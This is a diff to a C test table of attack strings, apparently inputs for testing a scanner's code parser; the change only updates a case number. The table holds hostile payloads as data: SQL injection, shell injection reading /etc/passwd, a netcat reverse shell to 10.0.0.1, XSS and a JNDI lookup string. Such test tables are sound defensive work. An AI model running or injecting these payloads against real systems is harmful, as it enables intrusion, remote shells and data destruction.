@@ -13,8 +13,8 @@ static const struct scan_attack attacks[] = {
     /* SQL, CVE-2023-3938 and its kin */
     ATTACK("' OR 1=1--"), ATTACK("1' OR '1'='1"), ATTACK("1 OR 1=1"), ATTACK("\" OR \"\"=\""),
     ATTACK("'; DROP TABLE cases;--"), ATTACK("1;SELECT * FROM USER_INFO"),
-    ATTACK("') UNION SELECT pin FROM cards--"), ATTACK("LF26112200017' --"),
-    ATTACK("LF26112200017;"), ATTACK("LF2611220001%"), ATTACK("LF26112_____7"),
+    ATTACK("') UNION SELECT pin FROM cards--"), ATTACK("LF26112200010' --"),
+    ATTACK("LF26112200010;"), ATTACK("LF2611220001%"), ATTACK("LF26112_____7"),
     /* shells, CVE-2023-3939 */
     ATTACK("$(reboot)"), ATTACK("`id`"), ATTACK("; cat /etc/passwd"),
     ATTACK("| nc 10.0.0.1 4444 -e /bin/sh"), ATTACK("A && poweroff"), ATTACK("AAAA\nreboot"),
@@ -29,7 +29,7 @@ static const struct scan_attack attacks[] = {
     ATTACK("http://example.org/"), ATTACK("HTTPS://EXAMPLE.ORG"), ATTACK("javascript:alert(1)"),
     ATTACK("<script>alert(1)</script>"), ATTACK("{{7*7}}"), ATTACK("${jndi:ldap://x/a}"),
     ATTACK("WIFI:T:WPA;S:free;P:12345678;;"), ATTACK("BEGIN:VCARD"), ATTACK("tel:+8610086"),
-    ATTACK("weixin://wxpay/bizpayurl?pr=AbCdEf"), ATTACK("{\"case\":\"LF26112200017\"}"),
+    ATTACK("weixin://wxpay/bizpayurl?pr=AbCdEf"), ATTACK("{\"case\":\"LF26112200010\"}"),
     /* almost a pick-up code */
     ATTACK("K1:"), ATTACK("K1::"), ATTACK("K1::" MAC), ATTACK("K1:MFRGGZDFMZTWQ2LK"),
     ATTACK("K1:MFRGGZDFMZTWQ2LK:"), ATTACK("k1:MFRGGZDFMZTWQ2LK:" MAC),
